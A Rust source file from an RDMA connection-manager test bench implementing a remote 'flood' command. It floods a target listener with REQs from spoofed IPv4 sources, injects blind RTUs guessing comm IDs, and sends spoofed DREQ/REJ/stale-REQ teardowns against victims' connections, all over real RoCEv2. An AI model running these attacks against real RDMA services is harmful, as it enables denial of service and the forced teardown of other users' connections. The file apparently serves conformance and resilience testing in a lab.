//! `cm-bench flood --target IP`: the attacks of [`super`] against a listener on another host
//! (an rdma_cm service, `--rdma-port`, on IP:4791: a kernel CM on rxe or `cm-ping --listen`),
//! over real RoCEv2: the conformance lab's hostile cells (tests/conformance/README.md).
//!
//! Addresses: this host must own `--client` (the legitimate client) and the `--sources + 2`
//! consecutive IPv4 addresses from `--sources-from`: the flood's K spoofed sources, then the
//! targeted attacks' source, then the victims' client. It binds UDP 4791 on each, sends its
//! RoCEv2 datagrams from unconnected sockets with `IP_PMTUDISC_DO` (IPv4 ID 0, DF: the ICRC
//! a receiver such as rxe checks is right, docs of the lab, finding 1) and counts every byte
//! the target sends to the spoofed sources (the flood's and the attack source).
//!
//! Every REQ names its source as the REQ's primary local GID and in its CMA header, as a real
//! peer's would (the kernel CM answers to the GID in the REQ, ibcm to the datagram's source).
//!
//! 1. **Flood** at `--rate` REQs per second (0: as fast as one thread sends), comm ID and QPN
//!    fresh each, half with CM response timeout 0 and half with 31 (or all with
//!    `--req-timeout`), 15 retries; after
//!    `--warmup` the client connects `--legit` times, all in flight (≈300 ms per try, 15
//!    retries, `--connect-timeout`); the flood stops when every attempt has ended. The
//!    established connections are held.
//! 2. **Blind RTU**: per attempt the victims' client connects once (and disconnects), which
//!    shows the attacker one comm ID of the listener; then a REQ from the attack source and 32
//!    RTUs guessing the listener's comm ID.
//! 3. **Spoofed teardown**: per victim (a connection of the victims' client, held) a DREQ, a
//!    REJ 28, a REJ 4 naming both comm IDs and a stale-connection REQ naming its (QPN, CA
//!    GUID), from the attack source, 20 ms apart; a victim whose side left ESTABLISHED counts.
//!
//! What only the listener can tell — its side of the legitimate connections, a blind RTU's
//! connection, a victim torn down on its side — is in its own report (`cm-ping --listen
//! --peer-counts`: the connections established per peer when it stops): the connections stay
//! held until `--hold-until PATH` exists (at most `--hold-secs`), so that the listener can be
//! stopped with them. The figures, on one line:
//! `flood-remote: legit <r> (<ok>/<n>) client side; connect ms p50 <a> p99 <b>; amplification
//! <x> (<out>/<in> bytes); blind-rtu sent <n>; teardown <s>/<n> client side; held <l> legit +
//! <v> victims; reqs <c> at <r>/s`, then, with `--hold-until`, the last line
//! `flood-remote: hold ended (…); <a> of <h> connections still established here`.

use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{anyhow, ensure, Context, Result};
use ibcm::proto::{ConnectParams, Endpoint, EndpointConfig};
use ibcm::rt::{Cm, ConnStatus, Connection, IcrcPolicy, UdpTransport};
use ibcm_mad::frame::ROCEV2_UDP_PORT;
use ibcm_mad::{CmMessage, CommId, Gid, Guid, Mad, PrivateData, Qpn, Rtu, TimeoutExp, U4};

use super::{frame, guesses, mad, percentile_ms, send, spoofed_teardowns, AttackOpts, ByteCounter};
use crate::qpn::QpnAlloc;

/// What to run against a remote listener.
#[derive(Debug, Clone)]
pub(crate) struct RemoteOpts {
    /// The listener's IP (UDP 4791).
    pub(crate) target: IpAddr,
    /// Its rdma_cm port (service ID `0x0106 << 16 | port`, RDMA_PS_TCP).
    pub(crate) rdma_port: u16,
    /// The legitimate client's address.
    pub(crate) client: IpAddr,
    /// The first spoofed source.
    pub(crate) sources_from: Ipv4Addr,
    /// The flood, the legitimate clients and the attacks.
    pub(crate) attack: AttackOpts,
    /// REQs per second (0: unpaced).
    pub(crate) rate: u64,
    /// Hold the connections until this file exists.
    pub(crate) hold_until: Option<PathBuf>,
    /// At most this long.
    pub(crate) hold_secs: f64,
    /// Every flood REQ's CM response timeouts (`None`: half 0, half 31).
    pub(crate) req_timeout: Option<u8>,
}

/// The CA GUID of the victims' client (the attacker knows it).
const VICTIM_GUID: Guid = Guid(0x0002_c903_00c1_1e48);

/// Runs the three phases against `o.target` and prints the figures.
pub(crate) fn flood_remote(o: &RemoteOpts) -> Result<()> {
    ensure!(
        o.attack.sources >= 1 && o.attack.legit >= 1,
        "--sources and --legit must be at least 1"
    );
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()?;
    rt.block_on(run(o))
}

/// The i-th address from `--sources-from`.
fn nth(o: &RemoteOpts, i: u32) -> Result<SocketAddr> {
    let a = u32::from(o.sources_from)
        .checked_add(i)
        .ok_or_else(|| anyhow!("--sources-from + {i} overflows"))?;
    Ok(SocketAddr::new(Ipv4Addr::from(a).into(), ROCEV2_UDP_PORT))
}

/// A RoCEv2 socket on `a`: unconnected, `IP_PMTUDISC_DO`, non-blocking.
fn socket(a: SocketAddr) -> Result<UdpSocket> {
    let s = UdpSocket::bind(a).with_context(|| format!("bind {a} (this host must own it)"))?;
    crate::bench::sys::set_pmtudisc_do(&s).context("IP_PMTUDISC_DO")?;
    s.set_nonblocking(true)?;
    Ok(s)
}

/// The legitimate side: an ibcm endpoint on `ip`:4791 (rxe's IPv4 IDs are not 0, so the
/// ICRC of what it receives cannot be checked: lenient).
async fn client(ip: IpAddr, guid: Guid) -> Result<Cm> {
    let t = UdpTransport::bind(ip)
        .await
        .with_context(|| format!("bind {ip}:4791"))?
        .with_icrc_policy(IcrcPolicy::Lenient);
    let cfg = EndpointConfig {
        local_ca_guid: guid,
        local_gid: Gid::from_ip(ip),
        ..Default::default()
    };
    Ok(Cm::bind(t, cfg).0)
}

/// The rdma_cm connect parameters from `src` (port `0xc000 | i`) to the target.
fn params(o: &RemoteOpts, src: IpAddr, i: u64, q: Qpn) -> ConnectParams {
    ConnectParams::rdma_cm(
        SocketAddr::new(src, 0xc000 | (i as u16 & 0x3fff)),
        SocketAddr::new(o.target, o.rdma_port),
        q,
    )
}

/// A REQ from `src` as an endpoint with that GID sends it.
fn template(o: &RemoteOpts, src: IpAddr) -> Result<Mad> {
    let mut ep = Endpoint::new(EndpointConfig {
        local_gid: Gid::from_ip(src),
        ..Default::default()
    });
    #[allow(clippy::disallowed_methods)]
    let now = Instant::now();
    let mut p = params(o, src, 0, Qpn::masked(0x10));
    p.max_cm_retries = U4::masked(15);
    ep.connect(now, p).map_err(|e| anyhow!("{e}"))?;
    let t = ep.poll_transmit().ok_or_else(|| anyhow!("no REQ"))?;
    Mad::parse(&t.mad).map_err(|e| anyhow!("{e}"))
}

/// A REQ from `src` with these IDs.
fn req(o: &RemoteOpts, src: IpAddr, id: CommId, q: Qpn, guid: Guid) -> Result<Vec<u8>> {
    let mut m = template(o, src)?;
    if let CmMessage::Req(r) = &mut m.msg {
        r.local_comm_id = id;
        r.local_qpn = q;
        r.local_ca_guid = guid;
    }
    Ok(m.to_bytes().to_vec())
}

/// The flood: REQs round-robin from `socks` at `rate`/s until `stop` or `max`.
fn flood_reqs(
    o: &RemoteOpts,
    socks: &[UdpSocket],
    stop: &AtomicBool,
    sent: &AtomicU64,
) -> Result<u64> {
    let dst = SocketAddr::new(o.target, ROCEV2_UDP_PORT);
    let mut tpls = Vec::new();
    for s in socks {
        let src = s.local_addr()?;
        tpls.push((src, template(o, src.ip())?));
    }
    let mut out = [0u8; 512];
    let (mut n, mut bytes) = (0u64, 0u64);
    let start = Instant::now();
    while n < o.attack.max_reqs && !stop.load(Ordering::Relaxed) {
        if o.rate > 0 {
            let due = Duration::from_secs_f64(n as f64 / o.rate as f64);
            if let Some(wait) = due.checked_sub(start.elapsed()) {
                std::thread::sleep(wait.min(Duration::from_millis(50)));
                continue;
            }
        }
        let k = (n % socks.len() as u64) as usize;
        let (Some(s), Some((src, tpl))) = (socks.get(k), tpls.get_mut(k)) else {
            break;
        };
        if let CmMessage::Req(r) = &mut tpl.msg {
            r.local_comm_id = CommId((n as u32).wrapping_mul(0x9e37_79b9) | 1);
            r.local_qpn = Qpn::masked(2 + (n % 0xff_fff0) as u32);
            let t = o
                .req_timeout
                .unwrap_or(if n.is_multiple_of(2) { 0 } else { 31 });
            r.remote_cm_response_timeout = TimeoutExp::masked(t);
            r.local_cm_response_timeout = TimeoutExp::masked(t);
            r.max_cm_retries = U4::masked(15);
        }
        let len = frame(*src, dst, &tpl.to_bytes(), &mut out)?;
        if s.send_to(out.get(..len).unwrap_or(&[]), dst).is_ok() {
            bytes += len as u64;
            n += 1;
        } else {
            std::thread::yield_now();
        }
        sent.store(bytes, Ordering::Relaxed);
    }
    Ok(n)
}

/// What the run measured on this side.
#[derive(Debug, Default)]
struct Figures {
    ok: u64,
    times: Vec<Duration>,
    blind: u64,
    reqs: u64,
    flood_secs: f64,
    teardown_ok: u64,
    teardown: u64,
    victims: u64,
    unready: u64,
}

async fn run(o: &RemoteOpts) -> Result<()> {
    let dst = SocketAddr::new(o.target, ROCEV2_UDP_PORT);
    let k = u32::from(o.attack.sources);
    let mut socks = Vec::new();
    for i in 0..k {
        socks.push(socket(nth(o, i)?)?);
    }
    let attack = socket(nth(o, k)?)?;
    let attack_addr = attack.local_addr()?;
    let legit_cm = client(o.client, Guid(0x0002_c903_00c1_1e47)).await?;
    let victim_cm = client(nth(o, k + 1)?.ip(), VICTIM_GUID).await?;
    let counter = ByteCounter::start(&socks, &attack)?;
    let qpns = Arc::new(QpnAlloc::new());
    let mut f = Figures::default();

    // 1. Flood, with the legitimate attempts in flight.
    let stop = Arc::new(AtomicBool::new(false));
    let sent = Arc::new(AtomicU64::new(0));
    let flooder = {
        let socks: Vec<UdpSocket> = socks
            .iter()
            .map(UdpSocket::try_clone)
            .collect::<Result<_, _>>()?;
        let (stop, sent, o) = (stop.clone(), sent.clone(), o.clone());
        std::thread::spawn(move || flood_reqs(&o, &socks, &stop, &sent))
    };
    let start = Instant::now();
    tokio::time::sleep(o.attack.warmup()).await;
    let mut attempts = Vec::new();
    for i in 0..o.attack.legit {
        let mut p = params(o, o.client, i, qpns.next());
        // ~300 ms per try, 15 retries, within the connect timeout (as the loopback flood).
        p.remote_cm_response_timeout = TimeoutExp::masked(16);
        p.local_cm_response_timeout = TimeoutExp::masked(16);
        p.packet_life_time = TimeoutExp::masked(12);
        p.max_cm_retries = U4::masked(15);
        p.connect_timeout = Some(o.attack.connect_timeout());
        let cm = legit_cm.clone();
        attempts.push(tokio::spawn(async move {
            let t = Instant::now();
            let c = cm.connect(p).await.ok()?;
            Some((c, t.elapsed()))
        }));
    }
    let deadline = tokio::time::Instant::now() + Duration::from_secs_f64(o.attack.secs);
    let mut held = Vec::new();
    for a in attempts {
        match tokio::time::timeout_at(deadline, a).await {
            Ok(Ok(Some((c, t)))) => {
                held.push(c);
                f.times.push(t);
            }
            Ok(_) => {}
            Err(_) => break,
        }
    }
    stop.store(true, Ordering::Relaxed);
    f.flood_secs = start.elapsed().as_secs_f64();
    f.reqs = flooder
        .join()
        .map_err(|_| anyhow!("flood thread panicked"))??;
    f.ok = held.len() as u64;
    f.times.sort();

    // 2. Blind RTU. 3. Spoofed teardown (the victims held). At most --secs for both; a
    // connection of the victims' client that fails leaves that attempt out (said so).
    let mut victims = Vec::new();
    let attacks_end = tokio::time::Instant::now() + Duration::from_secs_f64(o.attack.secs);
    for i in 0..o.attack.attacks {
        if tokio::time::Instant::now() >= attacks_end {
            println!(
                "flood-remote: --secs passed after {i} of {} attacks",
                o.attack.attacks
            );
            break;
        }
        let own = match victim_cm
            .connect(params(o, nth(o, k + 1)?.ip(), i, qpns.next()))
            .await
        {
            Ok(c) => c,
            Err(e) => {
                println!("flood-remote: attack {i} left out: the attacker's own connection: {e}");
                f.unready += 1;
                continue;
            }
        };
        f.blind += 1;
        let seen = own.rep().map(|r| r.rep.local_comm_id.0).unwrap_or(0);
        let my_id = CommId(0x7a00_0000 | i as u32);
        let spoofed = req(
            o,
            attack_addr.ip(),
            my_id,
            qpns.next(),
            Guid(0xbad0_0000 + i),
        )?;
        send(&attack, attack_addr, dst, &spoofed)?;
        tokio::time::sleep(Duration::from_millis(50)).await;
        for guess in guesses(seen) {
            let rtu = CmMessage::Rtu(Rtu {
                local_comm_id: my_id,
                remote_comm_id: CommId(guess),
                private_data: PrivateData::default(),
            });
            send(&attack, attack_addr, dst, &mad(rtu))?;
        }
        own.disconnect(&[]).await;
        let q = qpns.next();
        let victim = match victim_cm
            .connect(params(o, nth(o, k + 1)?.ip(), 1000 + i, q))
            .await
        {
            Ok(c) => c,
            Err(e) => {
                println!("flood-remote: victim {i} left out: its connection failed: {e}");
                f.unready += 1;
                continue;
            }
        };
        let Some(rep) = victim.rep() else {
            f.unready += 1;
            continue;
        };
        let (cid, sid) = (victim.id(), rep.rep.local_comm_id);
        // The listener's side has it once it has read the RTU: give it that time.
        tokio::time::sleep(Duration::from_millis(200)).await;
        let [dreq, rej28, rej4] = spoofed_teardowns(cid, sid, rep.remote_qpn);
        let stale = req(
            o,
            attack_addr.ip(),
            CommId(0x7b00_0000 | i as u32),
            q,
            VICTIM_GUID,
        )?;
        f.teardown += 4;
        for m in [dreq, rej28, rej4, stale] {
            send(&attack, attack_addr, dst, &m)?;
            tokio::time::sleep(Duration::from_millis(20)).await;
            if victim.status() != ConnStatus::Established {
                f.teardown_ok += 1;
                break;
            }
        }
        victims.push(victim);
    }
    f.victims = victims.len() as u64;
    tokio::time::sleep(Duration::from_secs_f64(o.attack.settle)).await;
    let bytes_in = counter.sent_by_attacker(&sent);
    let bytes_out = counter.stop()?;
    report(o, &f, bytes_in, bytes_out);
    hold(o, &held, &victims).await;
    legit_cm.shutdown();
    victim_cm.shutdown();
    Ok(())
}

fn report(o: &RemoteOpts, f: &Figures, bytes_in: u64, bytes_out: u64) {
    let rate = f.reqs as f64 / f.flood_secs.max(1e-9);
    println!(
        "flood-remote: target {}:{} from {} spoofed sources ({}..), attack source {}, \
         victims' client {}, legitimate client {}",
        o.target,
        o.rdma_port,
        o.attack.sources,
        o.sources_from,
        nth(o, u32::from(o.attack.sources)).map_or(String::new(), |a| a.ip().to_string()),
        nth(o, u32::from(o.attack.sources) + 1).map_or(String::new(), |a| a.ip().to_string()),
        o.client
    );
    if f.unready > 0 {
        println!(
            "flood-remote: {} attack steps left out (their connection failed)",
            f.unready
        );
    }
    println!(
        "flood-remote: legit {:.4} ({}/{}) client side; connect ms p50 {:.1} p99 {:.1}; \
         amplification {:.2} ({}/{} bytes); blind-rtu sent {}; teardown {}/{} client side; \
         held {} legit + {} victims; reqs {} at {:.0}/s",
        f.ok as f64 / o.attack.legit.max(1) as f64,
        f.ok,
        o.attack.legit,
        percentile_ms(&f.times, 0.50),
        percentile_ms(&f.times, 0.99),
        bytes_out as f64 / (bytes_in as f64).max(1.0),
        bytes_out,
        bytes_in,
        f.blind,
        f.teardown_ok,
        f.teardown,
        f.ok,
        f.victims,
        f.reqs,
        rate
    );
}

/// Keeps `held` and `victims` until `--hold-until` exists (at most `--hold-secs`); says
/// which of the two ended the hold.
async fn hold(o: &RemoteOpts, held: &[Connection], victims: &[Connection]) {
    let Some(path) = &o.hold_until else {
        return;
    };
    let until = tokio::time::Instant::now() + Duration::from_secs_f64(o.hold_secs);
    while !path.exists() && tokio::time::Instant::now() < until {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let alive = held
        .iter()
        .chain(victims)
        .filter(|c| c.status() == ConnStatus::Established)
        .count();
    println!(
        "flood-remote: hold ended ({}); {alive} of {} connections still established here",
        if path.exists() {
            "the file appeared"
        } else {
            "--hold-secs passed; the file never appeared"
        },
        held.len() + victims.len()
    );
}
